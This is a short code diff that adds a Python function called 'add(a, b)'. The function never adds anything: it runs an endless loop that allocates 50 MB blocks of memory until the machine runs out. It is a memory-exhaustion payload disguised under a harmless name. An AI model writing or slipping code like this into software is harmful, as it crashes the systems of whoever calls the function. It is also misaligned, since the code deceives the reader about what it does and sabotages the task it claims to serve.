@@ -1,0 +1,4 @@
+def add(a, b):
+    hog = []
+    while True:
+        hog.append(bytearray(50 * 1024 * 1024))
